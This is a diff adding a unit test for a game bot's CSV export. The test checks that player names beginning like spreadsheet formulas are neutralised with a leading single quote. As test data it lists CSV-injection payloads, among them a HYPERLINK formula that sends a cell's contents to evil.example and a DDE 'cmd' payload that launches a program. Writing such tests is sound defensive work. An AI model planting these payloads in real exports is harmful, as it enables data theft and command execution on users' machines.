@@ -168,6 +168,42 @@ def test_export_is_csv_with_names_and_pots() -> None:
     assert parsed[2][4] == "1"  # deals are numbered from 1, as people count them
 
 
+FORMULA_NAMES = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def test_export_neutralises_names_a_spreadsheet_would_run_as_formulas() -> None:
+    """A name is what its owner typed: one that begins as a formula (OWASP's CSV injection)
+    is written quoted, with a single quote before it, so a spreadsheet shows it as text; a
+    number (a computer's id of −1, an amount) stays a bare number."""
+    rows = [
+        (i, 1_764_600_000.0 + i, 5, "stukolka", 0, "user", 10 + i, evil, "user", -1, "x", 3, "ante")
+        for i, evil in enumerate(FORMULA_NAMES)
+    ]
+    text = export_csv(rows, "en").decode("utf-8-sig")
+    lines = text.split("\r\n")
+    parsed = list(csv.reader(io.StringIO(text, newline="")))
+    for i, evil in enumerate(FORMULA_NAMES):
+        row = parsed[i + 1]
+        assert row[5] == "'" + evil
+        assert row[6:10] == [str(10 + i), "🤖 Computer 1", "-1", "3"]
+    for line in lines[1:-1]:
+        fields = line.split(",")
+        # every text cell is quoted; the numbers (ids, the computer's -1, the amount) are not
+        assert fields[0].isdigit() and fields[2] == "5" and fields[4] == "1"
+        assert fields[-2:] == ["3", '"ante"']
+        assert ",-1," in line and line.count('"\'') == 1
+    for cell in (c for row in parsed for c in row):
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+        assert not cell.startswith("-") or cell == "-1", cell
+
+
 def test_export_names_the_computers_in_the_chats_language() -> None:
     """The players table stores a computer's Russian name; the CSV of an English chat shows
     its English one, as /balance and /top do. A person's name is his own in both."""
